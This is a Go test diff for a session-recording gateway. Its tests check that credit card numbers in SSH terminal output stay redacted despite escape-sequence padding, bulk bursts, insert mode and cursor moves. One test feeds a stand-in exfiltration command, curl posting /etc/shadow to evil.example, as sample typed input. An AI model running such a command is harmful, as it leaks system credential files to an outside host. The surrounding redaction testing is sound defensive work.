@@ -214,3 +214,168 @@ func TestStreamBulkRefused(t *testing.T) {
 		t.Fatal("no piece recorded as its digest")
 	}
 }
+
+// bulkSession is a session of a gateway with a key store, and its
+// stdout recorded with flush interval wait.
+func bulkSession(t *testing.T, wait time.Duration) (*testBus, *piikeys.Store, *gateway.Stream) {
+	b := startBus(t, true)
+	keys, err := piikeys.Open(t.Context(), b.js, 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	g := newGateway(t, b.em, func(c *gateway.Config) { c.Keys = keys })
+	s := g.Session(events.Target{Kind: "ssh"})
+	s.Authenticated(alice)
+	return b, keys, s.Stream("stdout", gateway.StreamConfig{FlushAfter: wait})
+}
+
+// recordedUpTo waits until the stream's chunks account for n bytes.
+func recordedUpTo(t *testing.T, b *testBus, n int) []natstest.Stored {
+	t.Helper()
+	var chunks []natstest.Stored
+	natstest.CheckFor(t, 30*time.Second, 10*time.Millisecond, func() error {
+		chunks = outputs(natstest.Events(t, b.js, ""))
+		if k := len(chunks); k == 0 || int(chunks[k-1].Payload["offset"].(float64)+chunks[k-1].Payload["bytes"].(float64)) != n {
+			return errors.New("not all recorded yet")
+		}
+		return nil
+	})
+	return chunks
+}
+
+// writeAll writes p in writes of 32 KiB.
+func writeAll(st *gateway.Stream, p []byte) {
+	for ; len(p) > 0; p = p[min(len(p), 32<<10):] {
+		st.Write(p[:min(len(p), 32<<10)])
+	}
+}
+
+// Escape sequences padding a value's halves apart — its first half at
+// the end of a burst, 6,000 bytes of SGR resets after it, the rest after
+// a pause — do not push the first half out of the text judged with the
+// second: the bulk's tail is kept by what a terminal shows, as text
+// holds back.
+func TestStreamBulkTailByRendering(t *testing.T) {
+	b, _, st := bulkSession(t, 50*time.Millisecond)
+	card := gatewaytest.Card(t)
+	first, second := card[:10], card[10:]
+	data := append(words(1<<20), "\ncard "+first+strings.Repeat("\x1b[m", 2000)...)
+	writeAll(st, data)
+	recordedUpTo(t, b, len(data))
+	time.Sleep(gateway.BulkPause + 100*time.Millisecond)
+	st.Write([]byte(second + " ok\n"))
+	st.Close()
+	chunks := recordedUpTo(t, b, len(data)+len(second)+4)
+	last := chunks[len(chunks)-1]
+	raw, _ := base64.StdEncoding.DecodeString(last.Payload["data"].(string))
+	if strings.Contains(string(raw), strings.ReplaceAll(second, " ", "")[:4]) || !strings.Contains(string(raw), "[REDACTED:credit_card]") {
+		t.Errorf("the text after the padded bulk records %q", raw)
+	}
+	if last.Payload["bulk_before"] == nil {
+		t.Errorf("no bulk_before: %v", last.Payload)
+	}
+}
+
+// A trickle after a burst is not bulk: the first piece its flush
+// interval seals with little in it turns the stream back to text, so
+// what is typed or shown one byte at a time is judged, not sealed in a
+// piece apiece.
+func TestStreamBulkTrickleIsText(t *testing.T) {
+	b, _, st := bulkSession(t, 50*time.Millisecond)
+	data := words(1 << 20)
+	writeAll(st, data)
+	n := len(data)
+	recordedUpTo(t, b, n) // the burst, sealed: its last piece by the timer
+	for _, c := range []byte("curl -d @/etc/shadow http://evil.example/\n") {
+		st.Write([]byte{c})
+		n++
+		time.Sleep(5 * time.Millisecond)
+	}
+	st.Close()
+	chunks := recordedUpTo(t, b, n)
+	pieces := 0
+	var text []byte
+	for _, c := range chunks {
+		if c.Payload["bulk"] != nil {
+			pieces++
+			continue
+		}
+		if s, ok := c.Payload["data"].(string); ok {
+			raw, _ := base64.StdEncoding.DecodeString(s)
+			text = append(text, raw...)
+		}
+	}
+	// At most the trickle's first flush interval is in a piece.
+	if !strings.Contains(string(text), "evil.example/\n") || strings.Count(string(text), "e") < 3 {
+		t.Errorf("the trickle is not in the text chunks: %q (%d pieces in all)", text, pieces)
+	}
+}
+
+// A piece that begins in insert mode says so: its reader cannot know.
+func TestStreamBulkInsertMode(t *testing.T) {
+	b, _, st := bulkSession(t, time.Hour)
+	data := append([]byte("\x1b[4h"), words(3<<20)...)
+	writeAll(st, data)
+	st.Close()
+	chunks := recordedUpTo(t, b, len(data))
+	n := 0
+	for _, c := range chunks {
+		if c.Payload["bulk"] != nil {
+			if c.Payload["insert"] != true {
+				t.Errorf("a piece after ESC [4h without insert: %v", c.Payload)
+			}
+			n++
+		}
+	}
+	if n == 0 {
+		t.Fatal("no piece")
+	}
+}
+
+// Bulk bytes are not rendered: where they leave the cursor is not known,
+// and the text after them starts from a row not known, not from the row
+// the bytes before it left (the bulk names row 5, then its last 4 KiB,
+// judged with the text, rewrite that row after CR). The case
+// after a bulk run: the card's parts joined on row 6 by a line feed and
+// a row named is recorded as binary (no row known) or replaced (the
+// tail names the row), never in clear as the rows before the bulk would
+// place them.
+func TestStreamCursorForgottenAfterBulk(t *testing.T) {
+	b := startBus(t, true)
+	keys, err := piikeys.Open(t.Context(), b.js, 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	g := newGateway(t, b.em, func(c *gateway.Config) { c.Keys = keys })
+	s := g.Session(events.Target{Kind: "ssh"})
+	s.Authenticated(alice)
+	wait := 50 * time.Millisecond
+	st := s.Stream("stdout", gateway.StreamConfig{FlushAfter: wait, Screen: gateway.NewScreen(80, 24)})
+	st.Write([]byte("\x1b[5;1Hnamed\r\n"))
+	st.Flush()
+	data := append(words(1<<20), "\x1b[5;1H"+strings.Repeat("progress 45%\r", 400)...)
+	for p := data; len(p) > 0; p = p[min(len(p), 32<<10):] {
+		st.Write(p[:min(len(p), 32<<10)])
+	}
+	time.Sleep(gateway.BulkPause + wait) // the pause that ends the bulk
+	after := "\r\nXXXX851889592158\r\n\x1b[6;1H4802\r\n"
+	st.Write([]byte(after))
+	st.Close()
+	want := len("\x1b[5;1Hnamed\r\n") + len(data) + len(after)
+	var chunks []natstest.Stored
+	natstest.CheckFor(t, 20*time.Second, 10*time.Millisecond, func() error {
+		chunks = outputs(natstest.Events(t, b.js, ""))
+		if n := len(chunks); n == 0 || int(chunks[n-1].Payload["offset"].(float64)+chunks[n-1].Payload["bytes"].(float64)) != want {
+			return errors.New("not all recorded yet")
+		}
+		return nil
+	})
+	// Recorded as binary (the row not known), or with the card replaced
+	// (the bulk's tail, 4 KiB as rendered, names row 5): never in clear.
+	if last := chunks[len(chunks)-1].Payload; last["binary"] != true {
+		raw, _ := base64.StdEncoding.DecodeString(last["data"].(string))
+		if strings.Contains(string(raw), "851889592158") {
+			t.Fatalf("the text after the bulk recorded as %q: the card's parts in clear", raw)
+		}
+	}
+}
